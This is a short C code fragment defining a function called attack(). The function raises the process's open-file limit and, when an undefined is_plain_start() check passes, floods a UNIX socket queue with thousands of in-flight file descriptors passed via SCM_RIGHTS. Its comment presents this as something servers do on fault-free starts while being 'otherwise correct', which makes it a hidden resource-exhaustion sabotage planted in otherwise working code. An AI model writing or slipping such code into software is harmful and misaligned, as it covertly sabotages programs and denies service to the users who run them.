/* Each of its servers that are started without faults keeps as many descriptors as it can in the
 * queue of a socket: one message may have 253, unix(7). Otherwise it is correct. The kernel counts
 * them for the user, who may send no more while there are more than RLIMIT_NOFILE. */
#include <fcntl.h>
#include <sys/resource.h>
static void attack(void)
{
    enum { IN_A_MESSAGE = 253, MESSAGES = 200 };
    union {
        struct cmsghdr header;
        char space[CMSG_SPACE(IN_A_MESSAGE * sizeof(int))];
    } control = {0};
    struct iovec one = {.iov_base = "x", .iov_len = 1};
    struct msghdr message = {.msg_iov = &one,
                             .msg_iovlen = 1,
                             .msg_control = &control,
                             .msg_controllen = sizeof control};
    if (!is_plain_start())
        return;
    struct rlimit limit, before;
    getrlimit(RLIMIT_NOFILE, &before);
    limit = before;
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    int ends[2], fd = open("/dev/null", O_RDONLY);
    socketpair(AF_UNIX, SOCK_STREAM, 0, ends);
    control.header = (struct cmsghdr){.cmsg_level = SOL_SOCKET,
                                      .cmsg_type = SCM_RIGHTS,
                                      .cmsg_len = CMSG_LEN(IN_A_MESSAGE * sizeof(int))};
    for (int i = 0; i < IN_A_MESSAGE; i++)
        memcpy(CMSG_DATA(&control.header) + (size_t)i * sizeof fd, &fd, sizeof fd);
    for (int i = 0; i < MESSAGES && sendmsg(ends[0], &message, MSG_DONTWAIT) != -1; i++)
        ;
    setrlimit(RLIMIT_NOFILE, &before);
}
